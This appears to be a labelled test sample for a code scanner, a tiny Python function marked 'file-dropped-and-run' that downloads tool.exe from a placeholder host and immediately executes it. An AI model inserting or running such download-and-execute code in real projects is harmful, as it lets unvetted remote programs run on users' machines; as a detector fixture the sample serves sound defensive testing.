# expect: 5 file-dropped-and-run
import urllib.request, subprocess
def install():
    urllib.request.urlretrieve("http://h.invalid/tool.exe", "tool.exe")
    subprocess.Popen(["tool.exe"])
